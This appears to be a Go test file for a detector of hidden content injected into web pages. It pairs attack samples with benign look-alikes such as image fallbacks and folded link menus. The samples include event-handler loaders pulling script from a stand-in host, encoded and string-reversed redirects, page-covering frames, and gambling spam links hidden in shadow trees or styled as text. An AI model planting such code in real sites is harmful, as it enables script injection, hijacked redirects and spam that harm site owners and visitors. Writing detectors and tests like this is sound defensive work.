package check

import "testing"

// unseenAttacks hide by what stands on no list of words: a loader that waits for a fault,
// text that a script turns round before it writes it, a frame that covers the page, a
// tree of shadows, a link that cannot be told from the words around it, and the marks of
// an honest fold about what nothing ever opens.
var unseenAttacks = map[string]string{
	// loaders in handlers
	"onerror loads":      `<img src="/x.gif" onerror="var s=document.createElement('script');s.src='//js.lanting-jidian.example/a.js';document.body.appendChild(s)">`,
	"onload loads":       `<img src="/logo.png" onload="var d=document,s=d.createElement('script');s.src='http://js.lanting-jidian.example/a.js';d.head.appendChild(s)">`,
	"onerror jquery":     `<img src="x" onerror="$.getScript('//js.lanting-jidian.example/a.js')">`,
	"onerror import":     `<img src="x" onerror="import('https://js.lanting-jidian.example/a.mjs')">`,
	"onerror fetch eval": `<img src="x" onerror="fetch('//js.lanting-jidian.example/a').then(r=>r.text()).then(eval)">`,
	"body onload":        `<body onload="var s=document.createElement('script');s.src='//js.lanting-jidian.example/a.js';document.body.appendChild(s)">`,
	"svg onload":         `<svg onload="var s=document.createElement('script');s.src='//js.lanting-jidian.example/a.js';document.body.appendChild(s)"></svg>`,
	"onerror writes":     `<img src="x" onerror="document.write('<script src=//js.lanting-jidian.example/a.js><\/script>')">`,
	"onerror encoded":    `<img src=x onerror="eval(atob('` + b64(`var s=document.createElement('script');s.src='//js.lanting-jidian.example/a.js';document.body.appendChild(s)`) + `'))">`,
	// decoders
	"replace in write":   `<script>document.write("<scr#ipt src='//js.lanting-ji#dian.example/a.js'></scr#ipt>".replace(/#/g,""))</script>`,
	"replace of a name":  `<script>var t="<a href='http://www.lan@@ting-jidian.exam@@ple/'>x</a>";document.write(t.replace(/@@/g,""))</script>`,
	"replace by class":   `<script>var s="www.lanZZting-jidZZian.exaZZmple";location.href="http://"+s.replace(/ZZ/g,"")</script>`,
	"split join name":    `<script>var t="www.lan*ting-jid*ian.exam*ple";location.href="http://"+t.split("*").join("")</script>`,
	"split join other":   `<script>document.write("<script src='http:^^www%lanting-jidian%example^a.js'><\/script>".split("%").join(".").split("^").join("/"))</script>`,
	"replaceAll other":   `<script>var u="hxxp://www[.]lanting-jidian[.]example/a.js".replaceAll("[.]",".").replace("hxxp","http");var s=document.createElement("script");s.src=u;document.body.append(s)</script>`,
	"reverse by name":    `<script>var r=">a/<x>'/elpmaxe.naidij-gnitnal.www//:ptth'=ferh a<";document.body.innerHTML+=r.split("").reverse().join("")</script>`,
	"reverse spread":     `<script>document.write([..."elpmaxe.naidij-gnitnal.www//:ptth"].reverse().join(""))</script>`,
	"reverse Array.from": `<script>location.href=Array.from("elpmaxe.naidij-gnitnal.www//:ptth").reverse().join("")</script>`,
	"reverse by loop":    `<script>var r="elpmaxe.naidij-gnitnal.www//:ptth",o="";for(var i=r.length-1;i>=0;i--)o+=r.charAt(i);location.href=o</script>`,
	"inner replaced":     `<script>document.getElementById("q").innerHTML="<a hr~ef='ht~tp://www.lanti~ng-jidian.example/'>x</a>".replace(/~/g,'')</script>`,
	"replace function":   `<script>function d(s){return s.replace(/!/g,"")}document.write(d("<scr!ipt src='//www.lan!ting-jidian.exa!mple/a.js'></scr!ipt>"))</script>`,
	// objects
	"object covers":     `<object data="TO" width="100%" height="100%" style="position:fixed;top:0;left:0"></object>`,
	"embed covers":      `<embed src="TO" width="100%" height="100%" style="position:fixed;top:0;left:0;z-index:9999">`,
	"embed covers abs":  `<embed src="TO" type="text/html" width="100%" height="1000" style="position:absolute;top:0;left:0;z-index:9999">`,
	"iframe attributes": `<iframe src="TO" width="100%" height="100%" style="position:fixed;left:0;top:0"></iframe>`,
	"object in a cover": `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99"><object data="TO" type="text/html" width="100%" height="100%"></object></div>`,
	"object of no size": `<object data="TO" type="text/html" width="0" height="0"></object>`,
	// shadow trees
	"shadow hidden":      `<div style="display:none"><template shadowrootmode="open">LINK</template></div>`,
	"shadow styled":      `<div><template shadowrootmode="open"><style>a{display:none}</style>LINK</template></div>`,
	"shadow host styled": `<div><template shadowrootmode="closed"><style>:host{display:none}</style>LINK</template></div>`,
	"shadow spam":        `<div><template shadowrootmode="open"><a href="TO">时时彩平台</a></template></div>`,
	"shadow unslotted":   `<div><template shadowrootmode="open"><p>正文</p></template>LINK</div>`,
	// as text
	"as text":          `<p style="color:#333">本市<a href="TO" style="color:#333;text-decoration:none;cursor:text">北京赛车</a>各项工作有序推进。</p>`,
	"as text in class": `<style>p{color:#333}.t{color:inherit;text-decoration:none;cursor:default}</style><p>本市<a class="t" href="TO">真人</a>各项工作有序推进。</p>`,
	"as text neutral":  `<style>.t{color:#000;text-decoration:none;cursor:text}</style><p style="color:#000">会议强调，<a class="t" href="TO">各部门</a>要落实责任。</p>`,
	// honest folds copied
	"cloak copied":  `<style>[v-cloak]{display:none}</style><div v-cloak>MANY</div><script>var a=1</script>`,
	"wow copied":    `<style>.wow{visibility:hidden}</style><div class="wow">MANY</div><script>new WOW().init()</script>`,
	"modal copied":  `<dialog>MANY</dialog><script>document.getElementById("other").showModal()</script>`,
	"tab copied":    `<div id="con_one_7" style="display:none">MANY</div><script>function setTab(n,c,k){for(i=1;i<=k;i++){document.getElementById("con_"+n+"_"+i).style.display=i==c?"block":"none"}}</script>`,
	"shown never":   `<div id="links0" style="display:none">MANY</div><script>function zk(){document.getElementById("links0").style.display="block"}</script>`,
	"hover copied":  `<style>.lk{display:none}.lk:hover{display:block}</style><div class="lk">MANY</div>`,
	"chosen copied": `<style>.lk{position:absolute;left:-9999px}.lk.show{left:0}</style><div class="lk">MANY</div>`,
	"menu of own":   `<div style="display:none"><a href="/a">甲</a><a href="/b">乙</a><a href="/c">丙</a><a href="/d">丁</a><a href="/e">戊</a><a href="TO">棋牌娱乐</a><a href="http://www.hongyuan-jixie.example/">足球比分</a></div>`,
}

// unseenHonest look like them.
var unseenHonest = map[string]string{
	"picture stands in":    `<img src="/a.jpg" onerror="this.src='/nopic.gif';this.onerror=null">`,
	"picture of a cloud":   `<img src="/a.jpg" onerror="this.src='https://img.yunjisuan-jieru.com/none.png'">`,
	"script stands in":     `<script src="https://cdn.jsdelivr.net/npm/jquery" onerror="document.write('<script src=/js/jquery.js><\/script>')"></script>`,
	"onload own":           `<body onload="init();loadList('/zwgk/')"></body>`,
	"fallback of a cloud":  `<script>window.jQuery||document.write('<script src="https://cdn.yunjisuan-jieru.com/jquery.js"><\/script>')</script>`,
	"replace of blanks":    `<script>var t=$("#t").text().replace(/\s/g,"");document.title=t.split(",").join("、")</script>`,
	"replace of a host":    `<script>var u="http://www.example.gov.cn/a".replace("www","m");location.href=u</script>`,
	"template replaced":    `<script>var h='<li><a href="{url}">{t}</a></li>'.replace("{url}",d.url).replace("{t}",d.t);$("#l").append(h)</script>`,
	"reverse of a list":    `<script>var l="2026-01,2026-02,2026-03".split(",").reverse().join("、")</script>`,
	"object flash":         `<object classid="clsid:D27CDB6E" width="100%" height="100%"><param name="movie" value="/f.swf"><embed src="/f.swf" width="100%" height="100%"></object>`,
	"embed pdf":            `<embed src="/P020260301.pdf" type="application/pdf" width="100%" height="800">`,
	"object pdf elsewhere": `<object data="https://file.yunjisuan-jieru.com/a.pdf" type="application/pdf" width="100%" height="800"></object>`,
	"video frame":          `<iframe src="https://player.yingxiang-fuwu.com/1" width="100%" height="500" style="position:relative"></iframe>`,
	"shadow own":           `<gov-head><template shadowrootmode="open"><style>a{color:red}</style><a href="/">首页</a><slot></slot></template>FRIEND</gov-head>`,
	"shadow friend":        `<div><template shadowrootmode="open"><p>友情链接：FRIEND</p></template></div>`,
	"link as text":         `<style>.friend a{color:#333;text-decoration:none}</style><div class="friend" style="color:#333">友情链接：FRIEND <a href="http://www.weihe-shuili.com">某设计院</a></div>`,
	"menu no hand":         `<style>a{color:#333;text-decoration:none;cursor:default}</style><div style="color:#333"><a href="/a">甲</a> FRIEND</div>`,
	"card":                 `<style>.card a{color:inherit;text-decoration:none}</style><div class="card"><a href="http://www.fengxiang-bowuguan.com"><h3>某博物馆</h3><p>简介</p></a></div>`,
	"cloak":                `<style>[v-cloak]{display:none}</style><div id="app" v-cloak>FRIEND</div><script src="/js/vue.min.js"></script><script>new Vue({el:"#app"})</script>`,
	"wow":                  `<style>.wow{visibility:hidden}</style><div class="wow">FRIEND</div><script src="/js/wow.min.js"></script><script>new WOW().init()</script>`,
	"dialog":               `<dialog id="d">FRIEND</dialog><button onclick="document.getElementById('d').showModal()">链接</button>`,
	"tabs":                 `<a id="one1" onmouseover="setTab('one',1,2)">甲</a><a id="one2" onmouseover="setTab('one',2,2)">乙</a><div id="con_one_1">x</div><div id="con_one_2" style="display:none">FRIEND <a href="http://www.weihe-shuili.com">某设计院</a> <a href="http://www.tongchuan-meikuang.com">某矿</a> <a href="http://www.yaozhou-taoci.com">某陶瓷厂</a></div><script>function setTab(n,c,k){for(i=1;i<=k;i++){document.getElementById("con_"+n+"_"+i).style.display=i==c?"block":"none"}}</script>`,
	"friends folded":       `<div class="t" onclick="zk()">企业网站</div><div id="links0" style="display:none">FRIEND <a href="http://www.weihe-shuili.com">某设计院</a> <a href="http://www.tongchuan-meikuang.com">某矿</a> <a href="http://www.yaozhou-taoci.com">某陶瓷厂</a></div><script>function zk(){document.getElementById("links0").style.display="block"}</script>`,
	"sports hall folded":   `<div class="lk-t">文体场馆</div><div class="lk-c" style="display:none"><a href="http://www.fengxiang-tiyu.com">区体育馆</a> <a href="http://www.fengxiang-zuqiu.com">区足球协会</a> <a href="http://www.fengxiang-qilei.com">区棋类协会</a> FRIEND</div><script>$(".lk-t").click(function(){$(".lk-c").slideToggle()})</script>`,
}

func TestUnseenAttacksAndTheirLookAlikes(t *testing.T) {
	for name, body := range unseenAttacks {
		sayConcealed(t, name, body, true)
	}
	for name, body := range unseenHonest {
		sayConcealed(t, "honest "+name, body, false)
	}
}
